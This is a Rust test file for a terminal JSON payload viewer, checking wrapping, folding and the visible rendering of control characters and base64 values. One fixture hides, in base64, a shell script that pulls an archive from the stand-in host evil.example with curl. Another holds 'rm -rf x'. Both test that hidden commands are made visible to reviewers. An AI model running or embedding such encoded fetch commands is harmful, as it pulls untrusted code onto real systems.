//! What is shown of a payload: all of it, in its own order, and every line knows what it shows.

use super::*;
use crate::domain::json::quote;
use proptest::prelude::*;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;

fn laid_out(source: &str, columns: usize, folds: Folds) -> Sheet {
    let mut sheet = Sheet::json(source);
    sheet.lay_out(columns, folds);
    sheet
}

fn text(sheet: &Sheet) -> Vec<String> {
    (0..sheet.len()).map(|number| sheet.line(number).text()).collect()
}

fn draw(source: &str, columns: usize) -> Vec<String> {
    parse(source.as_bytes(), Limits::SEALED).unwrap();
    text(&laid_out(source, columns, Folds::Closed))
}

#[test]
fn numbers_order_and_duplicates_stand_as_they_came() {
    let source = r#"{"z":1.10,"a":[1e400,"false",false,{}],"z":null,"s":"a\"b\\c\u001b[2J"}"#;
    let expected = [
        "{",
        "  \"z\": 1.10,",
        "  \"a\": [",
        "    1e400,",
        "    \"false\",",
        "    false,",
        "    {}",
        "  ],",
        "  ‹duplicate key› \"z\": null,",
        "  \"s\": \"a\\\"b\\\\c␛[2J\"",
        "}",
    ];
    assert_eq!(draw(source, 60), expected);
}

#[test]
fn a_script_reads_as_lines_and_its_line_feeds_show() {
    assert_eq!(
        draw(r#"{"c":"set -e\nrm -rf x\n"}"#, 40),
        ["{", "  \"c\": \"set -e␊", "    rm -rf x␊\"", "}"]
    );
}

#[test]
fn long_text_is_wrapped_and_whole() {
    let text = "x".repeat(500);
    let drawn = draw(&format!("[{text:?}]"), 40);
    assert!(drawn.iter().all(|line| line.chars().count() <= 40));
    assert_eq!(drawn.concat().matches('x').count(), 500);
}

#[test]
fn a_sign_is_never_broken_where_it_fits() {
    for columns in 16..40 {
        let lines = draw(r#"["xxxxx\"\"\u202e\u202e\\\u200b\u202e\"\"yyyyyyyyyyyyyy\u202e"]"#, columns);
        for line in &lines {
            assert_eq!(line.matches('‹').count(), line.matches('›').count(), "{columns}: {lines:?}");
            assert!(
                !line.trim_start().starts_with("\\\"\"") && !line.ends_with("x\\"),
                "{columns}: {lines:?}"
            );
        }
    }
}

#[test]
fn depth_over_64_is_folded_with_its_size() {
    let deep = |depth: usize| format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
    assert_eq!(draw(&deep(64), 40).len(), 129);
    let source = deep(66);
    let lines = draw(&source, 80);
    assert_eq!(lines.len(), 129);
    assert_eq!(lines[64].trim(), "[‹2 values deeper than 64, 5 bytes›]");
    assert_eq!(text(&laid_out(&source, 80, Folds::LargeOpen)).len(), 133);
}

#[test]
fn a_long_string_is_folded_with_its_size_and_opens() {
    let source = format!(r#"{{"a":"{}","b":1}}"#, "é".repeat(40_000));
    assert_eq!(draw(&source, 60), ["{", "  \"a\": \"‹40,000 characters, 78 KiB›\",", "  \"b\": 1", "}"]);
    let open = laid_out(&source, 60, Folds::LargeOpen);
    assert_eq!(text(&open).concat().matches('é').count(), 40_000);
    assert!(!text(&open).concat().contains('‹'));
    let short = format!(r#"["{}"]"#, "x".repeat(64 * 1024));
    assert_eq!(laid_out(&short, 60, Folds::Closed).stream().steps().collect::<Vec<_>>(), [Folds::Closed]);
}

#[test]
fn blanks_and_piled_marks_are_folded_and_open_last() {
    let source = format!(r#"["ls{}rm","a{}b"]"#, "\\n".repeat(40), "\u{301}".repeat(9));
    let closed = ["[", "  \"ls‹40 blanks›rm\",", "  \"a\u{301}\u{301}\u{301}\u{301}‹+5 marks›b\"", "]"];
    assert_eq!(draw(&source, 60), closed);
    let sheet = laid_out(&source, 60, Folds::Closed);
    assert_eq!(sheet.stream().steps().collect::<Vec<_>>(), [Folds::Closed, Folds::Open]);
    let open = text(&laid_out(&source, 60, Folds::Open));
    assert_eq!(open.len(), 44, "{open:?}");
    assert_eq!((open[1].as_str(), open[41].as_str()), ("  \"ls␊", "    rm\","));
    assert!(open[42].contains("‹U+0301›") && !open[42].contains("marks"));
    // What a closed fold of blanks holds has been seen with its sign; not so the marks.
    let unseen: Vec<_> = sheet.held_back().collect();
    assert_eq!(unseen.len(), 1);
    assert_eq!(unseen[0].len(), 5 * "‹U+0301›".len());
}

#[test]
fn what_is_folded_is_not_covered() {
    let source = format!(r#"["{}","b"]"#, "x".repeat(70_000));
    let closed = laid_out(&source, 60, Folds::Closed);
    let covered = closed.covered(0..closed.len());
    assert_eq!(
        covered.iter().map(ExactSizeIterator::len).sum::<usize>(),
        closed.stream().end() as usize - 70_000
    );
    assert_eq!(closed.held_back().map(|range| range.len()).collect::<Vec<_>>(), [70_000]);
    let open = laid_out(&source, 60, Folds::LargeOpen);
    assert!(open.covered(0..open.len()).into_iter().eq(std::iter::once(0..open.stream().end())));
    assert_eq!(open.held_back().count(), 0);
}

#[test]
fn opaque_values_are_read_below_them_in_signs_that_no_agent_can_write() {
    let script = "IyEvYmluL3NoCmVjaG8gInR3aWNlIgpjdXJsIC1zIGh0dHBzOi8vZXZpbC5leGFtcGxlL3gudGd6IHwgdGFyIHh6";
    let drawn = draw(&format!(r#"{{"run":"{script}","n":1}}"#), 200);
    let reading = "    ‹base64, 88 characters, 66 bytes, reads \"#!/bin/sh␊echo \\\"twice\\\"␊\
        curl -s https://evil.example/x.tgz | tar xz\"›";
    let value = format!(r#"  "run": "{script}","#);
    assert_eq!(drawn, ["{", value.as_str(), reading, r#"  "n": 1"#, "}"]);
    // The very same text in a payload is another on the screen.
    let fake = draw(&format!("[{}]", quote(reading.trim())), 400);
    assert!(fake[1].contains("‹U+2039›base64") && fake[1].contains("‹U+203A›"), "{fake:?}");
    // What is no text says so, and what is not looked at is counted.
    let bytes = "iVBORw0KGgqj7yIjU1G4qQy965ymyK5M+VmSRkvpXYnMf9HFzRiWczYHOhvJ/MaoyExCl8f110fXeJYM";
    let drawn = draw(&format!(r#"["{}"]"#, [bytes; 6].join(" ")), 600);
    assert_eq!(drawn.len(), 8);
    assert!(drawn[2].contains("not text: 89 50 4e 47 0d 0a 1a 0a"), "{}", drawn[2]);
    assert_eq!(drawn[6].trim(), "‹2 more opaque›");
}

#[test]
fn nobody_needs_to_have_seen_what_the_console_adds() {
    let script = "IyEvYmluL3NoCmVjaG8gInR3aWNlIgpjdXJsIC1zIGh0dHBzOi8vZXZpbC5leGFtcGxlL3gudGd6IHwgdGFyIHh6";
    let sheet = laid_out(&format!(r#"["{script}"]"#), 200, Folds::Closed);
    let own: Vec<_> = sheet.stream().own().collect();
    assert_eq!(own.len(), 1);
    assert!(sheet.stream().str(&own[0]).starts_with("‹base64"));
}

/// Text of letters, signs, wide characters, marks, line feeds: what makes lines break in odd places.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-z \"\\\\{}:,]{0,12}",
        "[漢字éя\u{301}\u{1f600}\u{915}\u{94d}\u{1100}]{0,6}",
        "[\u{0}-\u{1f}\u{7f}-\u{9f}\u{202e}\u{200b}\n\t‹›]{0,6}",
        any::<String>(),
    ];
    proptest::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn lines_fit_and_lose_nothing(text in hostile(), columns in 8usize..70) {
        let source = format!("{{{}:[{},1]}}", quote(&text), quote(&text));
        let sheet = laid_out(&source, columns, Folds::Open);
        let mut shown = String::new();
        let mut at = 0;
        for number in 0..sheet.len() {
            let positions = sheet.positions(number);
            prop_assert_eq!(positions.start, at, "lines follow on one another");
            at = positions.end;
            let line = sheet.line(number);
            prop_assert!(line.width() <= columns, "{:?}", line);
            let line = line.text();
            let margin = usize::from(sheet.lines[number].margin);
            shown.push_str(&line[margin..]);
            prop_assert_eq!(sheet.line_at(positions.start), number);
        }
        prop_assert_eq!(at, sheet.stream().end());
        let wide = laid_out(&source, 100_000, Folds::Open);
        let whole: String = (0..wide.len()).map(|n| wide.line(n).text()[usize::from(wide.lines[n].margin)..].to_owned()).collect();
        prop_assert_eq!(shown, whole);
    }

    #[test]
    fn what_a_line_says_is_what_a_terminal_gets(text in hostile(), columns in 12usize..60) {
        let sheet = laid_out(&format!("[{}]", quote(&text)), columns, Folds::Open);
        let theme = crate::console::theme::Theme::named();
        for number in 0..sheet.len() {
            let line = sheet.line(number);
            let area = Rect::new(0, 0, u16::try_from(columns).unwrap(), 1);
            let mut buffer = Buffer::empty(area);
            buffer.set_line(0, 0, &line.styled(&theme), area.width);
            let drawn: String = buffer.content().iter().map(ratatui::buffer::Cell::symbol).collect();
            let wanted = line.text();
            prop_assert_eq!(drawn.replace(' ', ""), wanted.replace(' ', ""));
        }
    }
}
